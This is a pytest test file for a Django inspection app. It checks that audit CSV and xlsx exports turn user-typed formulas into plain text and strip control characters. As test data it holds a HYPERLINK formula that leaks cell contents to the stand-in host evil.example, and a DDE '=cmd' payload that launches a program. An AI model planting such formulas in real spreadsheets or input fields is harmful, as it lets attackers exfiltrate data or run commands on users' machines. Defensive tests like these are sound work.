"""Formula injection: text a user typed reaches the auditor's CSV and the xlsx exports as text, never as a
formula a spreadsheet program runs; control characters the xlsx format cannot hold are removed, not a 500."""
import csv
import io

import pytest
from django.test import Client
from openpyxl import load_workbook

from bureau.spreadsheets import spreadsheet_cell
from inspections.exports import bulletin_xlsx, ranking_xlsx

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+cmd", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_starts_are_neutralised(value):
    assert spreadsheet_cell(value) == "'" + value


@pytest.mark.parametrize("value", [None, 3, -2.5, "", "古南街道 12 号", "a=b", "2026-W47"])
def test_other_values_pass_unchanged(value):
    assert spreadsheet_cell(value) == value


def test_control_characters_are_removed():
    assert spreadsheet_cell("中山路\x00\x07\x1b 1 号\n二楼") == "中山路 1 号\n二楼"


@pytest.mark.django_db
def test_a_failed_login_with_a_formula_username_reaches_the_audit_csv_as_text(auditor_user):
    # given a failed login whose username is a formula
    Client().post("/accounts/login/", {"username": HYPERLINK, "password": "wrong-password"})
    auditor = Client()
    auditor.force_login(auditor_user)

    # when the auditor exports the log
    response = auditor.get("/platform/audit/", {"format": "csv"})

    # then the username is there, as text
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(body)))
    usernames = [row["actor_username"] for row in rows]
    assert "'" + HYPERLINK in usernames
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())


def _bulletin(address):
    item = {"case": {"id": 1, "number": "2026110001"}, "category": {"code": "01001", "name": "占道经营"},
            "address": address, "due_at": "2026-11-20T18:00:00+08:00", "overdue_hours": 5}
    return {"period": "2026-W47", "start": "2026-11-16", "end": "2026-11-22", "revision": 1,
            "published_at": "2026-11-23T08:00:00+08:00",
            "streets": [{"street": {"code": "001", "name": "古南街道"}, "counts": {"due_count": 1},
                         "items": [item]}]}


def test_a_formula_address_in_the_bulletin_xlsx_is_text():
    wb = load_workbook(io.BytesIO(bulletin_xlsx(_bulletin(HYPERLINK))))
    cell = wb["督办案件"]["F2"]
    assert cell.data_type == "s"
    assert cell.value == "'" + HYPERLINK


def test_a_control_character_in_an_address_does_not_break_the_xlsx():
    wb = load_workbook(io.BytesIO(bulletin_xlsx(_bulletin("中山路\x0b1 号"))))
    assert wb["督办案件"]["F2"].value == "中山路1 号"


def test_the_ranking_xlsx_goes_through_the_same_cells():
    result = {"rank": 1, "street": {"code": "001", "name": "=cmd|'/c calc'!A0"}, "score": "80.00", "grade": "B",
              "indicators": {k: 0 for k in ("due_count", "closed_count", "closed_on_time_count", "close_rate",
                                            "on_time_close_rate", "rework_rate", "extension_rate",
                                            "overdue_count", "bulletin_items", "patrol_coverage")}}
    payload = {"period": "2026-W47", "start": "2026-11-16", "end": "2026-11-22", "revision": 1,
               "published_at": "2026-11-23T08:00:00+08:00", "scheme": {"code": "default", "version": 1},
               "results": [result]}
    wb = load_workbook(io.BytesIO(ranking_xlsx(payload)))
    assert wb["排名"]["C2"].value.startswith("'=")
    assert wb["排名"]["D2"].value == 80.0
